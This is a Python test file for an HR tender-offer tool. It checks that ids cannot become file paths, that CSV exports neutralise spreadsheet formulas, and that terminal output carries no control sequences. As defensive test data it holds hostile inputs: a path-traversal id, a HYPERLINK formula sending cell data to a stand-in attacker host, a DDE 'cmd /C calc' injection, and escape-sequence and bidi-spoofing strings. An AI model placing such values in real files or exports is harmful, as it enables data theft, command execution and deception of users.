"""Issue 13, items 6 and 7: ids that could become paths, and outside text reaching HR's tools.

Ids are checked at import against the documented pattern; every file name is built from a
sanitised id, so even an id stored before the check cannot write outside `--out-dir`. Every CSV
offerbot writes neutralises spreadsheet formulas; nothing printed to HR's terminal carries a
control sequence. Real databases for the services; real `offerbot` processes on a SQLite file
for what HR runs.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import subprocess
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from bot.domain.communications import Communication
from bot.domain.elections import Delivery, FormKind
from bot.domain.records import UnansweredQuestion
from bot.domain.roster import EMPLOYEE_COLUMNS, GRANT_COLUMNS, Employee, Grant
from bot.domain.terms import OfferTerms
from bot.letter_files import LetterFolder
from bot.services import elections
from bot.services.messaging.communications import export_communications
from bot.services.roster.csv_files import parse_employees, parse_grants
from knowledge.offer_terms import load_offer_terms
from storage.db import create_engine, session_factory
from storage.uow import UnitOfWork
from tests.cli.runner import offerbot as in_process
from tests.services.close_setup import SIGNER
from tests.services.elections_setup import EMPLOYEES, GRANTS, HR, NOW, option, person

TRAVERSAL = "../../tmp/pwned/x"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# OSC 8 hyperlink, clear screen, window title, a one-byte C1 CSI, a bidi override, rich markup.
HOSTILE = (
    "\x1b]8;;http://evil.example/\x07click me\x1b]8;;\x07 \x1b[2J\x1b[H\x1b]0;pwned\x07 "
    "\x9b31m red \u202egnp.exe [/bold] [link=http://evil.example/]x[/link] when do I vest?\n"
    "2003-07-10T09:00:00  out_of_scope     U999: forged row"
)
CONTROLS = ("\x1b", "\x9b", "\x07", "\u202e")


@pytest.fixture(scope="module")
def terms() -> OfferTerms:
    return load_offer_terms()


def _csv(header: tuple[str, ...], rows: list[list[str]]) -> list[str]:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().splitlines(keepends=True)


# --- item 6: ids ----------------------------------------------------------------------------


@pytest.mark.parametrize("bad", [TRAVERSAL, "a/b", "..", ".hidden", "-rf", "=cmd()", "E1\\x"])
def test_an_id_that_could_become_a_path_is_refused_with_row_and_column(bad: str) -> None:
    employee = [bad, "Ada Quillmore", "e1@example.com", "", "US", "active", "employee"]
    parsed = parse_employees(_csv(EMPLOYEE_COLUMNS, [employee]), file_name="employees.csv")
    (error,) = parsed.errors
    assert (error.row, error.column) == (2, "employee_id")
    assert "is not a valid id" in str(error) and str(error).startswith("employees.csv, row 2")

    grant = [bad, "E1", "2000 Equity Incentive Plan", "2001-05-01", "ISO", "5", "10", "0", "", ""]
    grant_owner = ["G1", bad, *grant[2:]]
    parsed_grants = parse_grants(_csv(GRANT_COLUMNS, [grant, grant_owner]), file_name="g.csv")
    assert {(e.row, e.column) for e in parsed_grants.errors} == {
        (2, "grant_number"),
        (3, "employee_id"),
    }


def test_ordinary_ids_still_import() -> None:
    rows = [
        [eid, "Ada Quillmore", f"a{n}@example.com", "", "US", "active", "employee"]
        for n, eid in enumerate(["E1001", "00042", "emp.7", "A-1_b"])
    ]
    parsed = parse_employees(_csv(EMPLOYEE_COLUMNS, rows))
    assert parsed.errors == [] and len(parsed.items) == 4


async def _seed_hostile_holder(uow: UnitOfWork, terms: OfferTerms, employee_id: str) -> None:
    """An employee id stored before ids were checked (written straight to storage), with a
    received tender."""
    async with uow:
        await uow.employees.upsert_many(
            [*EMPLOYEES, replace(person("E9", "Eve"), employee_id=employee_id)]
        )
        await uow.grants.upsert_many([*GRANTS, option("G9", employee_id, "3.33", 1000)])
        await uow.commit()
    result = await elections.record_intent(
        uow=uow, terms=terms, employee_id=employee_id, grant_numbers=["G9"], identity=HR, now=NOW
    )
    at = NOW + timedelta(hours=1)
    await elections.record_receipt(
        uow=uow,
        terms=terms,
        employee_id=employee_id,
        form=FormKind.ELECTION,
        version=result.intent.version,
        received_at=at,
        via=Delivery.HAND,
        identity=HR,
        now=at,
    )


async def test_file_names_from_a_stored_hostile_id_stay_in_their_folder(
    uow: UnitOfWork, terms: OfferTerms, tmp_path: Path
) -> None:
    await _seed_hostile_holder(uow, terms, TRAVERSAL)
    out_dir = tmp_path / "out" / "a" / "b"
    result = await elections.close_offer(
        uow=uow,
        terms=terms,
        identity=HR,
        now=terms.expiration,
        signer=SIGNER,
        letters=LetterFolder(out_dir),
    )
    (promise,) = result.promises
    assert (out_dir / promise.filename).resolve().parent == out_dir.resolve()
    written = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert [p.parent for p in written] == [out_dir]  # the letter, and nothing anywhere else
    assert promise.filename.startswith("promise-to-grant-tmp_pwned_x-")
    async with uow:
        messages = await uow.outbox.for_employee(TRAVERSAL)
    names = [a.filename for m in messages for a in m.attachments]
    assert {n.split("-tmp")[0] for n in names} == {"election-form", "promise-to-grant"}
    assert all("/" not in n and "\\" not in n and ".." not in n for n in names), names


# --- item 7: CSV files ------------------------------------------------------------------------


async def test_the_stock_administrator_export_neutralises_formulas(
    uow: UnitOfWork, terms: OfferTerms
) -> None:
    people = [
        replace(person(f"E{n}", name), email=f"x{n}@example.com")
        for n, name in enumerate(FORMULAS, 10)
    ]
    grants = [option(f"G{n}", f"E{n}", "3.33", 1000) for n in range(10, 10 + len(FORMULAS))]
    async with uow:
        await uow.employees.upsert_many(people)
        await uow.grants.upsert_many(grants)
        await uow.commit()
    for p in people:
        await _tender_and_receive(uow, terms, p, grants)
    text, rows = await elections.export_csv(uow=uow, terms=terms, identity=HR)
    parsed = list(csv.reader(io.StringIO(text)))
    assert rows == len(FORMULAS)
    cells = [cell for row in parsed for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], text
    names = sorted(r[1] for r in parsed[1:])
    assert names == sorted("'" + f for f in FORMULAS)  # shown as typed, never evaluated
    assert [r[10] for r in parsed[1:]] == ["1000"] * len(FORMULAS)  # numbers stay numbers


async def _tender_and_receive(
    uow: UnitOfWork, terms: OfferTerms, employee: Employee, grants: list[Grant]
) -> None:
    numbers = [g.grant_number for g in grants if g.employee_id == employee.employee_id]
    result = await elections.record_intent(
        uow=uow,
        terms=terms,
        employee_id=employee.employee_id,
        grant_numbers=numbers,
        identity=HR,
        now=NOW,
    )
    at = NOW + timedelta(hours=1)
    await elections.record_receipt(
        uow=uow,
        terms=terms,
        employee_id=employee.employee_id,
        form=FormKind.ELECTION,
        version=result.intent.version,
        received_at=at,
        via=Delivery.FAX,
        identity=HR,
        now=at,
    )


async def test_the_communications_index_neutralises_formulas(
    uow: UnitOfWork, tmp_path: Path
) -> None:
    subjects = [*FORMULAS, "\tindented", "\r=carriage"]
    async with uow:
        for n, subject in enumerate(subjects):
            await uow.communications.record(
                Communication(
                    key=f"amendment:{n}",
                    kind="amendment_notice",
                    subject=subject,
                    body="Body",
                    created_at=NOW + timedelta(minutes=n),
                )
            )
        await uow.commit()
    await export_communications(uow, tmp_path)
    rows = list(csv.DictReader((tmp_path / "index.csv").open(encoding="utf-8", newline="")))
    # Shown as typed, never evaluated; a bare CR (which would end the record) becomes LF.
    assert [r["subject"] for r in rows] == ["'" + s.replace("\r", "\n") for s in subjects]
    index = json.loads((tmp_path / "index.json").read_text(encoding="utf-8"))
    assert [c["subject"] for c in index["communications"]] == subjects  # JSON keeps the data


# --- item 7 and 6: what HR runs at the terminal ----------------------------------------------


def offerbot(cwd: Path, *args: str, now: str | None = None) -> subprocess.CompletedProcess[bytes]:
    """`offerbot ARGS` in the test process (:mod:`tests.cli.runner`), its output as the bytes a
    process would have written (UTF-8), so the checks read what reaches HR's terminal."""
    ran = in_process(cwd, *args, env={"OFFERBOT_NOW": now} if now else {}, check=False)
    return subprocess.CompletedProcess(
        ran.args, ran.returncode, ran.stdout.encode("utf-8"), ran.stderr.encode("utf-8")
    )


async def _in_database(cwd: Path, terms: OfferTerms) -> None:
    engine = create_engine(f"sqlite+aiosqlite:///{cwd / '.offerbot' / 'offerbot.db'}")
    try:
        uow = UnitOfWork(session_factory(engine))
        await _seed_hostile_holder(uow, terms, TRAVERSAL)
        async with uow:
            for n, actor in enumerate(["U1", "U2\x1b[8m"]):
                await uow.questions.record_unanswered(
                    UnansweredQuestion(
                        asked_at=datetime(2003, 7, 10, 16, n, tzinfo=UTC),
                        channel="slack",
                        actor=actor,
                        question=HOSTILE,
                        confidence=0.1,
                        reason="low_confidence",
                    )
                )
            await uow.commit()
    finally:
        await engine.dispose()


def test_hr_commands_print_no_control_sequences_and_write_inside_out_dir(
    tmp_path: Path, terms: OfferTerms
) -> None:
    cwd = tmp_path
    init = offerbot(cwd, "init", "--json")
    assert init.returncode == 0, init.stderr.decode()
    asyncio.run(_in_database(cwd, terms))

    listing = offerbot(cwd, "hr", "unanswered")
    assert listing.returncode == 0, listing.stderr.decode()  # "[/bold]" did not stop it
    text = listing.stdout.decode("utf-8")
    assert not [c for c in CONTROLS if c in text], repr(text)
    assert "when do I vest?" in text and "[/bold]" in text
    assert len(text.splitlines()) == 2  # one line per question: no forged rows
    assert all(line.startswith("2003-07-10 09:0") for line in text.splitlines())  # Pacific

    as_json = offerbot(cwd, "hr", "unanswered", "--json")
    raw = as_json.stdout.decode("utf-8")
    assert not [c for c in CONTROLS if c in raw], repr(raw)
    assert [q["question"] for q in json.loads(raw)] == [HOSTILE, HOSTILE]  # escaped, not lost

    closed = offerbot(
        cwd, "hr", "close", "--out-dir", "out/a/b", "--json", now="2003-07-25T09:00:00-07:00"
    )
    assert closed.returncode == 0, closed.stderr.decode()
    written = sorted(p.relative_to(cwd).as_posix() for p in cwd.rglob("*.pdf"))
    assert len(written) == 1 and written[0].startswith("out/a/b/promise-to-grant-"), written
    assert not (tmp_path.parent / "tmp").exists() and not (cwd / "out" / "tmp").exists()
